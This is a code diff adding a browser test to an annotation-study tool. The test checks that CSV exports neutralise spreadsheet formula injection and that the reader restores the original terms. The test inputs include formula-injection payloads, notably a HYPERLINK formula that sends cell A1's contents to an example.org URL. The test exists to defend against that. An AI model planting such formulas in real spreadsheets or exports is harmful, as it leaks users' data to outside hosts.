@@ -327,3 +327,28 @@ def test_wic_form_fill_reload_export_score(browser, downloads: Path, site: tuple
         mine = sorted(ids[rater])
         right = sum(wic_answer(rater, i) == ("same" if gold[i] == 1 else "not same") for i in mine)
         assert scores.loc[("accuracy", rater), "value"] == pytest.approx(right / len(mine))
+
+
+def test_study_form_export_neutralises_formulas(browser, site) -> None:
+    """Terms that a spreadsheet would run as formulas are exported with the leading apostrophe (the sheets'
+    neutralisation), and the sheet reader gives them back as written."""
+    from biosem.agreement.studies import FORMULA_TRIGGERS, read_sheet
+
+    terms = ['=HYPERLINK("http://example.org/?"&A1,"click")', "+1", "-ase", "@SUM(A1)", "\tx", "\rx", "'=q", "plain"]
+    sheet = pd.DataFrame(
+        {"item": [f"P{i:03d}" for i in range(len(terms))], "term1": terms, "term2": terms[::-1], "answer": ""}
+    )
+    root, url = site
+    page = root / "planted.html"
+    page.write_text(study_form(sheet, "termpairs", "planted"))
+    start(browser, url + page.name, "planted")
+    for row in rows_on_page(browser):
+        row.find_element(By.CSS_SELECTOR, 'input[value="same"]').click()
+    built = browser.execute_script("return biosemForm.csv()")
+    path = root / "planted.csv"
+    path.write_text(built, encoding="utf-8")
+    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
+    assert not raw[["term1", "term2"]].map(lambda v: v[:1] in FORMULA_TRIGGERS).any().any()
+    back = read_sheet(path)
+    assert back["term1"].tolist() == terms and back["term2"].tolist() == terms[::-1]
+    assert set(back["answer"]) == {"same"}
